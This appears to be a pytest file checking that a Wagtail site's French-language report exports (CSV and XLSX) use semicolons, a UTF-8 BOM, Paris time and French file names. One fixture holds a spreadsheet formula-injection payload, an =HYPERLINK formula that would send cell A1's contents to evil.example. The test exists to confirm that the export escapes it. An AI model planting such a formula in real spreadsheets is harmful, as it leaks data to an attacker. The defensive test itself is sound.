"""Wagtail's report exports (« Historique du site », « Pages vieillissantes ») open in French Excel
as the project's own exports do (session 31): semicolons, UTF-8 with a BOM, Paris time written
« 12/03/2026 14:58 », a French file name; their XLSX carry Paris time too, not UTC."""

import csv
import datetime
import io

import pytest
from django.contrib.auth import get_user_model
from openpyxl import load_workbook
from wagtail.log_actions import log
from wagtail.models import PageLogEntry

from tests.conftest import PASSWORD, host_client
from union.models import HomePage

pytestmark = pytest.mark.django_db

# 13:58 UTC on 12 March 2026 is 14:58 in Paris (winter time), with microseconds as stored.
STORED = datetime.datetime(2026, 3, 12, 13, 58, 7, 123456, tzinfo=datetime.UTC)
PARIS = datetime.datetime(2026, 3, 12, 14, 58, 7)
FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")'


@pytest.fixture
def admin():
    user = get_user_model().objects.create_superuser(
        "admin@udccas.test", "admin@udccas.test", PASSWORD
    )
    return host_client("localhost", user)


@pytest.fixture
def home():
    page = HomePage.objects.first()
    HomePage.objects.filter(pk=page.pk).update(last_published_at=STORED)
    # A name typed as a formula stays inert in the French CSV (test_security_fixes_s17).
    author = get_user_model().objects.create_user("a@ccas.test", "a@ccas.test", first_name=FORMULA)
    entry = log(instance=page, action="wagtail.edit", user=author)
    PageLogEntry.objects.filter(pk=entry.pk).update(timestamp=STORED)
    return page


def csv_rows(response) -> list[list[str]]:
    content = b"".join(response.streaming_content)
    assert content.startswith("\ufeff".encode())  # the BOM: Excel reads the accents as UTF-8
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.parametrize(
    "url, filename",
    [
        ("/admin/reports/site-history/", "historique-du-site-"),
        ("/admin/reports/aging-pages/", "pages-vieillissantes-"),
    ],
)
def test_csv_exports_open_in_french_excel(admin, home, url, filename):
    response = admin.get(url, {"export": "csv"})
    assert response.status_code == 200
    assert f'filename="{filename}' in response["Content-Disposition"]
    assert response["Content-Disposition"].endswith('.csv"')
    rows = csv_rows(response)
    assert len(rows) >= 2 and all(len(row) == len(rows[0]) for row in rows), rows
    cells = [cell for row in rows[1:] for cell in row]
    assert "12/03/2026 14:58" in cells, rows
    assert not any("+00:00" in cell or ".123456" in cell for cell in cells), rows
    if "site-history" in url:
        assert f"'{FORMULA}" in cells and not any(c.startswith(("=", "+", "@")) for c in cells)


@pytest.mark.parametrize(
    "url, filename",
    [
        ("/admin/reports/site-history/", "historique-du-site-"),
        ("/admin/reports/aging-pages/", "pages-vieillissantes-"),
    ],
)
def test_xlsx_exports_carry_paris_time(admin, home, url, filename):
    response = admin.get(url, {"export": "xlsx"})
    assert response.status_code == 200
    assert f'filename="{filename}' in response["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    dates = [
        cell
        for row in sheet.iter_rows(min_row=2)
        for cell in row
        if isinstance(cell.value, datetime.datetime)
    ]
    values = [cell.value for cell in dates]
    assert PARIS in values and STORED.replace(tzinfo=None) not in values, values
    assert all(cell.number_format == "dd/mm/yyyy hh:mm" for cell in dates)
